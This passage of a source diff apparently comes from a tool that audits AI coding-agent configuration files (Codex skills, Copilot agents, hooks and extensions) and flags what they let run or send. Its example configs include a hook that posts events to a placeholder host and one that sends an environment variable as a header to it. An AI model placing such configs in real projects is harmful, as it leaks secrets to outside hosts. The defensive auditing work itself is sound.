 		const name = nameOf$3(path);
 		if (name.toLowerCase() === "skill.md") {
@@ -16541,7 +17977,8 @@ const codexSkill = {
 			root
 		} : null;
 	},
-	read({ path, text: written }) {
+	read(source) {
+		const { path, text: written } = source;
 		if (nameOf$3(path) !== "openai.yaml") return combine$1({ grants: [byModel({ path })] });
 		const { root, faults } = readYaml(path, written, "Codex ignores the file, and its limits");
 		const readable = faults.map((fault) => ({
@@ -16553,7 +17990,10 @@ const codexSkill = {
 			faults: readable
 		});
 		const policy = get(root, "policy");
-		return combine$1(invocation(policy, path), { invocationKeys: invocationKeys(policy) }, { unread: unreadFields(policy, silentPolicies, "policy.") }, ...items(get(get(root, "dependencies"), "tools")).map(readTool), { unread: unreadFields(root, known$8) });
+		return combine$1(invocation(policy, path), { invocationKeys: invocationKeys(policy) }, ...items(get(get(root, "dependencies"), "tools")).map(readTool$1), root.kind === "table" ? readTable(root, rows$10, {
+			source,
+			client: "Codex"
+		}) : {});
 	},
 	examples: [exampleOf$1("auto", "Codex", [
 		{
@@ -16615,21 +18055,12 @@ function invocation(policy, path) {
 function invocationKeys(policy) {
 	return fields(policy).filter(({ key }) => key === "allow_implicit_invocation").map((field) => invocationKey("Codex", field));
 }
-const toolKeys$1 = new Set([
-	"type",
-	"value",
-	"description",
-	"transport",
-	"command",
-	"url"
-]);
-function readTool(tool) {
+function readTool$1(tool) {
 	const name = text$1(get(tool, "value"));
 	const type = text$1(get(tool, "type"));
 	if (name === void 0 || type === void 0) return combine$1({ faults: [grantFault(msg`A tool has no ${code$1("type")} or no ${code$1("value")}. Codex skips it.`, tool.at)] });
-	const unread = unreadFields(tool, toolKeys$1, "dependencies.tools[].");
 	const [url, command] = [text$1(get(tool, "url")), text$1(get(tool, "command"))];
-	const host = url === void 0 ? null : hostOf$1(url);
+	const host = url === void 0 ? null : hostOf$2(url);
 	const base = {
 		feature: "mcp-server",
 		kind: "mcp",
@@ -16641,112 +18072,447 @@ function readTool(tool) {
 			name
 		}
 	};
-	if (type !== "mcp") return combine$1({ unread });
-	return combine$1({
-		unread,
-		grants: [{
-			...host ? {
-				...base,
-				scope: host.name,
-				reach: host.isKnown ? "one" : "unknown",
-				connection: host.connection
-			} : {
-				...base,
-				scope: command ?? name,
-				reach: "one",
-				pin: pinOf$1(command ?? "")
+	if (type !== "mcp") return combine$1();
+	return combine$1({ grants: [{
+		...host ? {
+			...base,
+			scope: host.name,
+			reach: host.isKnown ? "one" : "unknown",
+			connection: host.connection
+		} : {
+			...base,
+			scope: command ?? name,
+			reach: "one",
+			pin: pinOf$1(command ?? "")
+		},
+		remark: "Codex offers to add it"
+	}] });
+}
+// src/powers/hooks/client-events.ts
+const events = (list) => new Map(Object.entries(list).flatMap(([start, names]) => names.map((name) => [name, start])));
+const gemini = {
+	name: "Gemini CLI",
+	events: events({
+		session: ["SessionStart"],
+		prompt: ["BeforeAgent"],
+		"before-tool": ["BeforeTool"],
+		"after-tool": ["AfterTool"],
+		event: [
+			"SessionEnd",
+			"AfterAgent",
+			"BeforeModel",
+			"AfterModel",
+			"BeforeToolSelection",
+			"Notification",
+			"PreCompress"
+		]
+	}),
+	guards: new Set(["BeforeTool"])
+};
+const copilot = {
+	name: "Copilot",
+	events: events({
+		session: ["sessionStart", "SessionStart"],
+		prompt: wordList(`
+      userPromptSubmitted userPromptSubmit UserPromptSubmit userPromptTransformed
+    `),
+		"before-tool": wordList(`
+      preToolUse PreToolUse permissionRequest PermissionRequest preMcpToolCall
+      PreMcpToolCall
+    `),
+		"after-tool": [
+			"postToolUse",
+			"postToolUseFailure",
+			"PostToolUse",
+			"PostToolUseFailure"
+		],
+		event: wordList(`
+      sessionEnd postResult prePRDescription errorOccurred agentStop subagentStart subagentStop preCompact notification
+      SessionEnd ErrorOccurred Stop SubagentStart SubagentStop PreCompact Notification
+    `)
+	}),
+	guards: new Set([
+		"preToolUse",
+		"PreToolUse",
+		"permissionRequest",
+		"PermissionRequest"
+	])
+};
+const cursor = {
+	name: "Cursor",
+	events: events({
+		session: ["sessionStart", "workspaceOpen"],
+		prompt: ["beforeSubmitPrompt"],
+		"before-tool": [
+			"preToolUse",
+			"beforeShellExecution",
+			"beforeMCPExecution",
+			"beforeReadFile",
+			"beforeTabFileRead"
+		],
+		"after-tool": [
+			"postToolUse",
+			"postToolUseFailure",
+			"afterShellExecution",
+			"afterMCPExecution",
+			"afterFileEdit",
+			"afterTabFileEdit"
+		],
+		event: [
+			"sessionEnd",
+			"subagentStart",
+			"subagentStop",
+			"preCompact",
+			"stop",
+			"afterAgentResponse",
+			"afterAgentThought"
+		]
+	}),
+	guards: new Set([
+		"preToolUse",
+		"beforeShellExecution",
+		"beforeMCPExecution",
+		"beforeReadFile",
+		"beforeSubmitPrompt",
+		"beforeTabFileRead"
+	])
+};
+// src/powers/hooks/client-hooks.ts
+function clientHookRows(client, examples) {
+	const { plain, guard, key = "command" } = examples;
+	const hook = (event, line) => ({ hooks: { [event]: [{ [key]: line }] } });
+	return [
+		...grants$1("run", "hooks", "runs commands at the event", {
+			read: ({ value }) => readClientHooks(value, client),
+			example: hook(plain, "notify.sh")
+		}),
+		...grants$1("guard", `hooks.${guard}`, "may refuse what the event announces", { example: hook(guard, "deny.sh") }),
+		...[`hooks.${guard}`, "hooks.<event>"].flatMap((prefix) => handlerRows(prefix, plain))
+	];
+}
+const clientEventRows = (plain) => (prefix = "hooks") => handlerRows(`${prefix}.<event>`, plain);
+function handlerRows(prefix, plain) {
+	const rows = [
+		...grants$1("run", lineKeys.join(", "), "runs the command at the event"),
+		...grants$1("delegate", "prompt", "gives the text to the model", {
+			example: { hooks: { [plain]: [{
+				type: "prompt",
+				prompt: "Read the plan."
+			}] } },
+			without: { hooks: {} }
+		}),
+		...grants$1("net", "url", "sends the event to the host", {
+			example: { hooks: { [plain]: [{ url: "https://x.example/hook" }] } },
+			without: { hooks: {} }
+		}),
+		...grants$1("secret", "headers", "sends variables of the environment to the host", { example: { hooks: { [plain]: [{
+			url: "https://x.example",
+			headers: { "X-Key": "${KEY}" }
+		}] } } }),
+		...grants$1("guard", "failClosed", "`true`: a hook that fails blocks the call", { example: { hooks: { [plain]: [{
+			command: "deny.sh",
+			failClosed: true
+		}] } } }),
+		...harmless$1(`
+      type name description matcher timeout timeoutSec cwd env model loop_limit comment async args
+      allowedEnvVars statusMessage enabled
+    `)
+	];
+	return [...within(`${prefix}[]`, rows), ...within(`${prefix}[].hooks[]`, rows)];
+}
+function readClientHooks(value, client) {
+	if (!value) return combine$1();
+	if (value.kind !== "table") return combine$1({ faults: [{
+		...wrongType("hooks", value, {
+			expected: "a mapping of events",
+			consequence: "no hook of it is loaded"
+		}),
+		isUnreadable: true
+	}] });
+	const read = combine$1(...fields(value).map((event) => readEvent(event, client)));
+	return combine$1(read, { faults: repeatedHooks(read.grants, `${client.name} may run it twice`) });
+}
+function readEvent({ key, keyAt, value }, client) {
+	if (value.kind !== "list") return combine$1({ faults: [{
+		...wrongType(key, value, {
+			expected: "a list of hooks",
+			consequence: "none of them is loaded"
+		}),
+		isUnreadable: true
+	}] });
+	const isKnown = client.events.has(key);
+	const similar = isKnown ? null : suggest(key, client.events.keys());
+	const help = similar ? msg`Write ${code$1(similar)}.` : void 0;
+	const message = msg`Unknown event ${code$1(key)} of ${words(client.name)}.`;
+	const entries = value.items.flatMap((entry) => {
+		const inner = get(entry, "hooks");
+		return inner?.kind === "list" ? inner.items.map((handler) => [handler, entry]) : [[entry, entry]];
+	});
+	const start = client.events.get(key) ?? "event";
+	const fault = guardFault(grantFault(message, keyAt, help), client.guards.has(similar ?? ""));
+	const faults = isKnown ? [] : [fault];
+	if (similar?.toLowerCase() === key.toLowerCase()) return combine$1({ faults });
+	return combine$1({ faults }, ...entries.map(([handler, group]) => {
+		const matcher = matcherOf$1(get(handler, "matcher") ?? get(group, "matcher"));
+		return readHandler(handler, {
+			event: key,
+			trigger: {
+				start,
+				event: key,
+				matcher
 			},
-			remark: "Codex offers to add it"
-		}]
+			client
+		});
+	}));
+}
+function matcherOf$1(value) {
+	const written = text$1(value)?.trim() ?? "";
+	if (written === "" || written === "*" || written === ".*") return void 0;
+	if (!/^[\w-]+(?:\s*\|\s*[\w-]+)*$/.test(written)) return {
+		text: written,
+		names: null
+	};
+	return {
+		text: written,
+		names: [...new Set(written.split(/\s*\|\s*/))].sort()
+	};
+}
+const lineKeys = [
+	"command",
+	"bash",
+	"powershell",
+	"windows",
+	"linux",
+	"osx",
+	"exec"
+];
+function readHandler(handler, place) {
+	const { event, trigger, client } = place;
+	const base = {
+		feature: "hook",
+		subject: event,
+		trigger,
+		reach: "one"
+	};
+	const lines = lineKeys.flatMap((key) => {
+		const value = get(handler, key);
+		if (!value) return [];
+		const args = key === "exec" ? items(get(handler, "args")) : [];
+		const run = [value, ...args].map((word) => source(word) ?? "");
+		const line = text$1(value)?.trim();
+		return [args.length > 0 ? {
+			value,
+			line: joinWords(run),
+			run
+		} : {
+			value,
+			line,
+			run: line
+		}];
+	});
+	const grants = [...lines.filter(({ line }, index) => lines.findIndex((other) => other.line === line) === index).map(({ value, line, run }) => {
+		const grant = {
+			...base,
+			kind: "run",
+			at: value.at
+		};
+		if (line === void 0) return {
+			...grant,
+			scope: "",
+			reach: "unknown"
+		};
+		return {
+			...grant,
+			scope: line,
+			pin: pinOf$1(line),
+			command: run,
+			cwd: text$1(get(handler, "cwd"))
+		};
+	}), ...otherGrants(handler, base)];
+	const isUnknown = grants.length === 0;
+	const unknown = {
+		...base,
+		kind: "run",
+		scope: text$1(get(handler, "type")) ?? "",
+		reach: "unknown",
+		at: handler.at
+	};
+	const message = msg`${code$1(event)} hook has no command. ${words(client.name)} runs nothing.`;
+	const guard = {
+		...base,
+		kind: "guard",
+		scope: event,
+		at: handler.at
+	};
+	return combine$1({
+		grants: [...isUnknown ? [unknown] : grants, ...client.guards.has(event) && !isUnknown ? [guard] : []],
+		faults: isUnknown ? [guardFault(grantFault(message, handler.at), client.guards.has(event))] : []
 	});
 }
+function otherGrants(handler, base) {
+	const grants = [];
+	const prompt = get(handler, "prompt");
+	if (prompt) {
+		const scope = (text$1(prompt) ?? "").trim();
+		grants.push({
+			...base,
+			kind: "delegate",
+			scope,
+			reach: "one",
+			at: prompt.at
+		});
+	}
+	const url = get(handler, "url");
+	if (url) {
+		const { name, isKnown } = hostOf$2(text$1(url));
+		const reach = isKnown ? "one" : "unknown";
+		grants.push({
+			...base,
+			kind: "net",
+			scope: name,
+			reach,
+			at: url.at
+		});
+		const { subject, trigger } = base;
+		const secrets = secretsSent(handler, name, ["headers", "url"]);
+		grants.push(...secrets.map((secret) => ({
+			...secret,
+			subject,
+			trigger
+		})));
+	}
+	const closed = get(handler, "failClosed");
+	if (closed && flag$1(closed) === true) {
+		const scope = `${base.subject} failClosed: true`;
+		grants.push({
+			...base,
+			kind: "guard",
+			scope,
+			reach: "one",
+			at: closed.at
+		});
+	}
+	return grants;
+}
 // src/powers/carriers/copilot-agent.ts
-const duringTurn$1 = { start: "turn" };
-const agent = (fields) => ({ ".github/agents/a.agent.md": `---\nname: a\ndescription: Helps.\n${fields}---\nHelp.\n` });
-const example$11 = exampleWriter(agent);
+const duringTurn$4 = { start: "turn" };
+const agent$2 = (fields) => ({ ".github/agents/a.agent.md": `---\nname: a\ndescription: Helps.\n${fields}---\nHelp.\n` });
+const example$9 = exampleWriter(agent$2);
+const rows$9 = [
+	...grants$1("delegate", "tools", "the tools of the agent; absent or `*`: any tool"),
+	...grants$1("mcp", "mcp-servers", "starts the servers, with their tools"),
+	...clientServerRows("mcp-servers"),
+	...grants$1("auto", "disable-model-invocation, user-invocable, infer", "absent: the model and the user may start the agent"),
+	...grants$1("delegate", "agents, handoffs", "the agents that it may start"),
+	...grants$1("run", "hooks", "as in `.github/hooks/*.json`, while the agent works", {
+		read: ({ value }) => readClientHooks(value, copilot),
+		example: {
+			tools: [],
+			hooks: { agentStop: [{ bash: "./notify.sh" }] }
+		}
+	}),
+	...clientEventRows("agentStop")().map((row) => ({
+		...row,
+		example: void 0
+	})),
+	...grants$1("settings", "github", "tools and permissions on GitHub", {
+		read: opaque(),
+		example: {
+			tools: [],
+			github: { toolsets: ["actions"] }
+		}
+	}),
+	...grants$1("delegate", "skills", "loads the texts of the skills at the start", {
+		read: each(({ text, at }) => ({
+			kind: "delegate",
+			feature: "delegation",
+			subject: "skills",
+			scope: text.trim(),
+			reach: "one",
+			trigger: duringTurn$4,
+			remark: "a skill, loaded at the start",
+			at
+		})),
+		example: {
+			tools: [],
+			skills: ["review"]
+		}
+	}),
+	...grants$1("guard", "strict-tools-list", "true: it has no other tools", {
+		read: off(true),
+		example: {
+			tools: [],
+			"strict-tools-list": true
+		}
+	}),
+	...grants$1("settings", "include-custom-instructions", "false: works without the instructions", {
+		read: opaque(),
+		example: {
+			tools: [],
+			"include-custom-instructions": false
+		}
+	}),
+	...harmless$1(`
+    model-policy reasoning-effort deferred-tool-loading
+    name description model target argument-hint metadata version license author color tags category
+  `)
+];
 const copilotAgent = {
 	id: "copilot-agent",
-	title: "`*.agent.md`, `.github/agents/*.md`",
+	paths: ["*.agent.md", ".github/agents/*.md"],
 	client: "Copilot",
 	extensions: ["md"],
-	fields: [
-		{
-			field: "tools",
-			kind: "delegate",
-			description: "the tools of the agent; absent or `*`: any tool"
-		},
-		{
-			field: "mcp-servers",
-			kind: "mcp",
-			description: "starts the servers, with their tools"
-		},
-		{
-			field: "mcp-servers.<name>.env",
-			kind: "secret",
-			description: "gives secrets of the repository to the server"
-		},
-		{
-			field: "disable-model-invocation, user-invocable, infer",
-			kind: "auto",
-			description: "absent: the model and the user may start the agent"
-		},
-		{
-			field: "agents, handoffs",
-			kind: "delegate",
-			description: "the agents that it may start"
-		}
-	],
+	rows: rows$9,
 	unitOf(path) {
 		return path.endsWith(".agent.md") || /(?:^|\/)\.github\/agents\/[^/]+\.md$/.test(path) ? {
 			kind: "agent",
 			root: path
 		} : null;
 	},
-	read({ path, text, unit }) {
+	read(source) {
+		const { path, text, unit } = source;
 		const file = readFrontmatter(path, text);
 		const { frontmatter, isUnreadable } = file;
 		if (isUnreadable) return combine$1({ faults: [unreadableFrontmatter(file, path)] });
 		if (!frontmatter) return nothing$1;
 		const top = frontmatter.fields.get("name")?.keyAt ?? { path };
-		return combine$1({
-			name: text$1(get(frontmatter, "name")),
-			unread: unreadFields(frontmatter, known$7)
-		}, { grants: tools$1(frontmatter.fields.get("tools"), top) }, invocations(frontmatter, top), readClientServers(get(frontmatter, "mcp-servers"), {
+		return combine$1({ name: text$1(get(frontmatter, "name")) }, readTable(frontmatter, rows$9, {
+			source,
+			client: "Copilot",
+			isForPeople: true
+		}), { grants: tools$2(frontmatter.fields.get("tools"), top) }, invocations(frontmatter, top), readClientServers(get(frontmatter, "mcp-servers"), {
 			unit,
-			trigger: duringTurn$1
+			trigger: duringTurn$4
 		}), delegates(frontmatter));
 	},
+	sample: { path: ".github/agents/a.agent.md" },
 	examples: [
-		example$11("delegate", "shell", [
+		example$9("delegate", "shell", [
 			"tools: [read, shell]\n",
 			"tools: [read]\n",
 			"tools: shell, read\n",
 			"tools:\n  - read\n  - \"shell\"\n"
 		]),
-		example$11("delegate", "*", [
+		example$9("delegate", "*", [
 			"",
 			"tools: [read]\n",
 			"tools: ['*']\n"
 		]),
-		example$11("mcp", "npx -y docs-mcp@latest", ["tools: []\nmcp-servers:\n  docs:\n    type: local\n    command: npx\n    args: [-y, docs-mcp@latest]\n    tools: [\"*\"]\n", "tools: []\n"]),
-		example$11("secret", "${DOCS_KEY} to the server", ["tools: []\nmcp-servers: {docs: {command: docs, env: {KEY: \"${{ secrets.DOCS_KEY }}\"}}}\n", "tools: []\nmcp-servers: {docs: {command: docs}}\n"]),
-		example$11("auto", "model", [
+		example$9("mcp", "npx -y docs-mcp@latest", ["tools: []\nmcp-servers:\n  docs:\n    type: local\n    command: npx\n    args: [-y, docs-mcp@latest]\n    tools: [\"*\"]\n", "tools: []\n"]),
+		example$9("secret", "${DOCS_KEY} to the server", ["tools: []\nmcp-servers: {docs: {command: docs, env: {KEY: \"${{ secrets.DOCS_KEY }}\"}}}\n", "tools: []\nmcp-servers: {docs: {command: docs}}\n"]),
+		example$9("auto", "model", [
 			"tools: []\n",
 			"tools: []\ndisable-model-invocation: true\n",
 			"tools: []\ninfer: true\n"
 		])
 	]
 };
-const known$7 = new Set(wordList(`
-  name description tools mcp-servers disable-model-invocation user-invocable infer model target
-  argument-hint agents handoffs metadata version license author color tags category
-`));
-function tools$1(field, top) {
+function tools$2(field, top) {
 	const base = {
 		kind: "delegate",
 		feature: "agent-tools",
 		subject: "tools",
-		trigger: duringTurn$1
+		trigger: duringTurn$4
 	};
 	const any = {
 		...base,
@@ -16828,300 +18594,89 @@ function delegates(frontmatter) {
 		scope: name,
 		subject: "agents",
 		reach: name === "*" ? "any" : "one",
-		trigger: duringTurn$1,
+		trigger: duringTurn$4,
 		at
 	})) };
 }
-// src/powers/clients/client-events.ts
-const events = (list) => new Map(Object.entries(list).flatMap(([start, names]) => names.map((name) => [name, start])));
-const gemini = {
-	name: "Gemini CLI",
-	events: events({
-		session: ["SessionStart"],
-		prompt: ["BeforeAgent"],
-		"before-tool": ["BeforeTool"],
-		"after-tool": ["AfterTool"],
-		event: [
-			"SessionEnd",
-			"AfterAgent",
-			"BeforeModel",
-			"AfterModel",
-			"BeforeToolSelection",
-			"Notification",
-			"PreCompress"
-		]
-	}),
-	guards: new Set(["BeforeTool"])
-};
-const copilot = {
-	name: "Copilot",
-	events: events({
-		session: ["sessionStart", "SessionStart"],
-		prompt: [
-			"userPromptSubmitted",
-			"userPromptSubmit",
-			"UserPromptSubmit"
-		],
-		"before-tool": [
-			"preToolUse",
-			"PreToolUse",
-			"permissionRequest",
-			"PermissionRequest"
-		],
-		"after-tool": [
-			"postToolUse",
-			"postToolUseFailure",
-			"PostToolUse",
-			"PostToolUseFailure"
-		],
-		event: wordList(`
-      sessionEnd errorOccurred agentStop subagentStart subagentStop preCompact notification
-      SessionEnd ErrorOccurred Stop SubagentStart SubagentStop PreCompact Notification
-    `)
-	}),
-	guards: new Set([
-		"preToolUse",
-		"PreToolUse",
-		"permissionRequest",
-		"PermissionRequest"
-	])
-};
-const cursor = {
-	name: "Cursor",
-	events: events({
-		session: ["sessionStart", "workspaceOpen"],
-		prompt: ["beforeSubmitPrompt"],
-		"before-tool": [
-			"preToolUse",
-			"beforeShellExecution",
-			"beforeMCPExecution",
-			"beforeReadFile",
-			"beforeTabFileRead"
-		],
-		"after-tool": [
-			"postToolUse",
-			"postToolUseFailure",
-			"afterShellExecution",
-			"afterMCPExecution",
-			"afterFileEdit",
-			"afterTabFileEdit"
-		],
-		event: [
-			"sessionEnd",
-			"subagentStart",
-			"subagentStop",
-			"preCompact",
-			"stop",
-			"afterAgentResponse",
-			"afterAgentThought"
-		]
-	}),
-	guards: new Set([
-		"preToolUse",
-		"beforeShellExecution",
-		"beforeMCPExecution",
-		"beforeReadFile",
-		"beforeSubmitPrompt",
-		"beforeTabFileRead"
-	])
-};
-// src/powers/clients/client-hooks.ts
-function readClientHooks(value, client) {
-	if (!value) return combine$1();
-	if (value.kind !== "table") return combine$1({ faults: [{
-		...wrongType("hooks", value, {
-			expected: "a mapping of events",
-			consequence: "no hook of it is loaded"
-		}),
-		isUnreadable: true
-	}] });
-	const read = combine$1(...fields(value).map((event) => readEvent(event, client)));
-	return combine$1(read, { faults: repeatedHooks(read.grants, `${client.name} may run it twice`) });
-}
-function readEvent({ key, keyAt, value }, client) {
-	if (value.kind !== "list") return combine$1({ faults: [{
-		...wrongType(key, value, {
-			expected: "a list of hooks",
-			consequence: "none of them is loaded"
-		}),
-		isUnreadable: true
-	}] });
-	const isKnown = client.events.has(key);
-	const similar = isKnown ? null : suggest(key, client.events.keys());
-	const help = similar ? msg`Write ${code$1(similar)}.` : void 0;
-	const message = msg`Unknown event ${code$1(key)} of ${words(client.name)}.`;
-	const entries = value.items.flatMap((entry) => {
-		const inner = get(entry, "hooks");
-		return inner?.kind === "list" ? inner.items.map((handler) => [handler, entry]) : [[entry, entry]];
-	});
-	const start = client.events.get(key) ?? "event";
-	const faults = isKnown ? [] : [grantFault(message, keyAt, help)];
-	if (similar?.toLowerCase() === key.toLowerCase()) return combine$1({ faults });
-	return combine$1({ faults }, ...entries.map(([handler, group]) => {
-		const matcher = matcherOf$1(get(handler, "matcher") ?? get(group, "matcher"));
-		return readHandler(handler, {
-			event: key,
-			trigger: {
-				start,
-				event: key,
-				matcher
-			},
-			client
-		});
-	}));
-}
-function matcherOf$1(value) {
-	const written = text$1(value)?.trim() ?? "";
-	if (written === "" || written === "*" || written === ".*") return void 0;
-	if (!/^[\w-]+(?:\s*\|\s*[\w-]+)*$/.test(written)) return {
-		text: written,
-		names: null
-	};
-	return {
-		text: written,
-		names: [...new Set(written.split(/\s*\|\s*/))].sort()
-	};
-}
-const lineKeys = [
-	"command",
-	"bash",
-	"powershell",
-	"windows",
-	"linux",
-	"osx"
-];
-const knownKeys$3 = new Set([...lineKeys, ...wordList(`
-  type name description matcher timeout timeoutSec cwd env prompt model failClosed loop_limit url
-  comment async statusMessage enabled
-  `)]);
-function readHandler(handler, place) {
-	const { event, trigger, client } = place;
-	const base = {
-		feature: "hook",
-		subject: event,
-		trigger,
-		reach: "one"
-	};
-	const lines = lineKeys.flatMap((key) => {
-		const value = get(handler, key);
-		return value ? [{
-			value,
-			line: text$1(value)?.trim()
-		}] : [];
-	});
-	const grants = [...lines.filter(({ line }, index) => lines.findIndex((other) => other.line === line) === index).map(({ value, line }) => {
-		const grant = {
+// src/powers/carriers/copilot-extension.ts
+const place = ".github/extensions/notify/extension.mjs";
+const copilotExtension = {
+	id: "copilot-extension",
+	paths: [".github/extensions/*/extension.mjs", "<plugin>/extensions/*/extension.mjs"],
+	client: "Copilot",
+	ignoresText: true,
+	extensions: ["mjs"],
+	rows: [...grants$1("run", "(the file)", "runs at each session, with tools and hooks of its own"), ...grants$1("secret", "requestedEnvironmentVariables", "asks for the variables")],
+	unitOf(path, tree) {
+		const folder = folderOf(folderOf(path));
+		const root = folderOf(folder);
+		if (nameOf$3(path) !== "extension.mjs" || nameOf$3(folder) !== "extensions") return null;
+		if (nameOf$3(root) === ".github") return {
+			kind: "repository",
+			root: folderOf(root)
+		};
+		return [
+			".github/plugin/plugin.json",
+			".plugin/plugin.json",
+			"plugin.json"
+		].some((name) => tree.has(join$2(root, name))) ? {
+			kind: "plugin",
+			root
+		} : null;
+	},
+	read({ path, text, unit }) {
+		const scope = relativePath$1(unit.root, path);
+		const base = {
+			subject: scope,
+			reach: "one",
+			trigger: { start: "session" },
+			at: { path }
+		};
+		return combine$1({ grants: [{
 			...base,
 			kind: "run",
-			at: value.at
-		};
-		if (line === void 0) return {
-			...grant,
-			scope: "",
-			reach: "unknown"
-		};
-		return {
-			...grant,
-			scope: line,
-			pin: pinOf$1(line),
-			command: line,
-			cwd: text$1(get(handler, "cwd"))
-		};
-	}), ...otherGrants(handler, base)];
-	const isUnknown = grants.length === 0;
-	const unknown = {
-		...base,
-		kind: "run",
-		scope: text$1(get(handler, "type")) ?? "",
-		reach: "unknown",
-		at: handler.at
-	};
-	const message = msg`${code$1(event)} hook has no command. ${words(client.name)} runs nothing.`;
-	const guard = {
-		...base,
-		kind: "guard",
-		scope: event,
-		at: handler.at
-	};
-	return combine$1({
-		grants: [...isUnknown ? [unknown] : grants, ...client.guards.has(event) && !isUnknown ? [guard] : []],
-		faults: isUnknown ? [grantFault(message, handler.at)] : [],
-		unread: unreadFields(handler, knownKeys$3, `hooks.${event}[].`)
-	});
-}
-function otherGrants(handler, base) {
-	const grants = [];
-	const prompt = get(handler, "prompt");
-	if (prompt) {
-		const scope = (text$1(prompt) ?? "").trim();
-		grants.push({
-			...base,
-			kind: "delegate",
+			feature: "background-program",
 			scope,
-			reach: "one",
-			at: prompt.at
-		});
-	}
-	const url = get(handler, "url");
-	if (url) {
-		const { name, isKnown } = hostOf$1(text$1(url));
-		const reach = isKnown ? "one" : "unknown";
-		grants.push({
-			...base,
-			kind: "net",
-			scope: name,
-			reach,
-			at: url.at
-		});
-	}
-	return grants;
-}
-// src/powers/clients/hook-file.ts
-const known$6 = new Set([
-	"version",
-	"hooks",
-	"description",
-	"$schema"
-]);
-function readHookFile({ path, text }, client) {
-	const { root, faults } = readJson(path, text, {
-		consequence: `${client.name} loads none of its hooks`,
-		hasComments: true
-	});
-	if (!root) return combine$1({ faults });
-	return combine$1({ unread: unreadFields(root, known$6) }, readClientHooks(get(root, "hooks"), client));
-}
-function hookFields(line, guardEvent) {
-	return [{
-		field: `hooks.<event>[].${line}`,
-		kind: "run",
-		description: "runs the command at the event"
-	}, {
-		field: `hooks.${guardEvent}[]`,
-		kind: "guard",
-		description: "may refuse what the event announces"
-	}];
-}
-function hookExamples(path, { plain, guard, key }) {
-	const file = (event, line) => ({ [path]: `{"version": 1, "hooks": {"${event}": [{"${key}": "${line}"}]}}\n` });
-	const none = { [path]: "{\"version\": 1, \"hooks\": {}}\n" };
-	return [exampleOf$1("run", "notify.sh", [
-		file(plain, "notify.sh"),
-		none,
-		{ [path]: `{\n  "hooks": {"${plain}": [{"timeout": 5, "${key}": " notify.sh"}]},\n  "version": 1\n}\n` }
-	]), exampleOf$1("guard", guard, [file(guard, "deny.sh"), none])];
+			command: ["node", scope],
+			remark: "it may read and rewrite every call"
+		}, ...requested(text).map((variable) => {
+			const receiver = `extension ${nameOf$3(folderOf(path))}`;
+			return {
+				...base,
+				kind: "secret",
+				feature: "secret",
+				scope: `\${${variable}} to ${receiver}`,
+				variable,
+				receiver
+			};
+		})] });
+	},
+	examples: [exampleOf$1("run", place, [{ [place]: "export {}\n" }, {}]), exampleOf$1("secret", "${TOKEN}", [{ [place]: "join({requestedEnvironmentVariables: [\"TOKEN\"]})\n" }, { [place]: "join({})\n" }])]
+};
+const maxUnits = 262144;
+function requested(text) {
+	const names = [...text.slice(0, maxUnits).matchAll(/\brequestedEnvironmentVariables["']?\s*:\s*\[([^\]]{0,2000})\]/g)].flatMap(([, list = ""]) => list.match(/[A-Za-z_]\w*/g) ?? []);
+	return [...new Set(names)];
 }
 // src/powers/carriers/copilot-hooks.ts
-const copilotHooks = {
+const copilotHooks = tableCarrier({
 	id: "copilot-hooks",
-	title: "`.github/hooks/*.json`, `hooks.json` of a plugin",
+	paths: [".github/hooks/*.json", "<plugin>/hooks.json"],
 	client: "Copilot",
-	extensions: ["json"],
-	fields: [...hookFields("bash, powershell, command", "preToolUse"), {
-		field: "hooks.sessionStart[].prompt",
-		kind: "delegate",
-		description: "gives the text to the model as if the user had typed it"
-	}],
+	format: "jsonc",
+	consequence: "Copilot loads none of its hooks",
+	rows: [
+		...clientHookRows(copilot, {
+			plain: "sessionStart",
+			guard: "preToolUse",
+			key: "bash"
+		}),
+		...grants$1("guard", "disableAllHooks", "true: runs no hooks", {
+			read: either$1(false),
+			example: { disableAllHooks: true }
+		}),
+		...harmless$1("version description $schema _vsCodeCompat")
+	],
 	unitOf(path, tree) {
 		const folder = folderOf(path);
 		if (!path.endsWith(".json")) return null;
@@ -17136,20 +18691,12 @@ const copilotHooks = {
 			root: folderOf(parent)
 		} : null;
 	},
-	read: (source) => readHookFile(source, copilot),
-	examples: [
-		...hookExamples(".github/hooks/h.json", {
-			plain: "sessionStart",
-			guard: "preToolUse",
-			key: "bash"
-		}),
-		exampleOf$1("run", "./start.sh", [{
-			"p/plugin.json": "{\"name\": \"p\"}\n",
-			"p/hooks.json": "{\"version\": 1, \"hooks\": {\"sessionStart\": [{\"bash\": \"./start.sh\"}]}}\n"
-		}, { "p/plugin.json": "{\"name\": \"p\"}\n" }]),
-		exampleOf$1("delegate", "Read the plan.", [{ ".github/hooks/h.json": "{\"version\": 1, \"hooks\": {\"sessionStart\": [{\"type\": \"prompt\", \"prompt\": \"Read the plan.\"}]}}\n" }, { ".github/hooks/h.json": "{\"version\": 1, \"hooks\": {\"sessionStart\": []}}\n" }])
-	]
-};
+	sample: { path: ".github/hooks/h.json" },
+	examples: [exampleOf$1("run", "./start.sh", [{
+		"p/plugin.json": "{\"name\": \"p\"}\n",
+		"p/hooks.json": "{\"version\": 1, \"hooks\": {\"sessionStart\": [{\"bash\": \"./start.sh\"}]}}\n"
+	}, { "p/plugin.json": "{\"name\": \"p\"}\n" }])]
+});
 const manifests$1 = [
 	"plugin.json",
 	".plugin/plugin.json",
@@ -17158,118 +18705,631 @@ const manifests$1 = [
 function isPlugin(folder, tree) {
 	return manifests$1.some((name) => tree.has(join$2(folder, name)));
 }
-// src/powers/clients/server-file.ts
-function readServerFile({ path, text, unit }, key) {
-	const { root, faults } = readJson(path, text, {
-		consequence: "no server of it is started",
-		hasComments: true
-	});
-	if (!root) return combine$1({ faults });
-	return combine$1({ unread: unreadFields(root, new Set([
-		key,
-		"inputs",
-		"$schema"
-	])) }, readClientServers(get(root, key), { unit }));
+// src/powers/clients/copilot-language-servers.ts
+const copilotServerRows = [...grants$1("run", "command, bash, powershell", "runs the program"), ...harmless$1(`
+    args env cwd fileExtensions rootUri initializationOptions initializationTimeoutMs spawnTimeoutMs
+    warmupTimeoutMs requestTimeoutMs disabled
+  `)];
+function readCopilotServers(value) {
+	if (value.kind === "table") return combine$1(...fields(value).map(readServer));
+	return combine$1({ faults: [{
+		...wrongType("lspServers", value, {
+			expected: "a mapping of servers",
+			consequence: "none of them is started"
+		}),
+		isUnreadable: true
+	}] });
 }
-function serverFields(key) {
-	return [
-		{
-			field: `${key}.<name>.command`,
-			kind: "mcp",
-			description: "starts the program as a server"
-		},
-		{
-			field: `${key}.<name>.url`,
-			kind: "mcp",
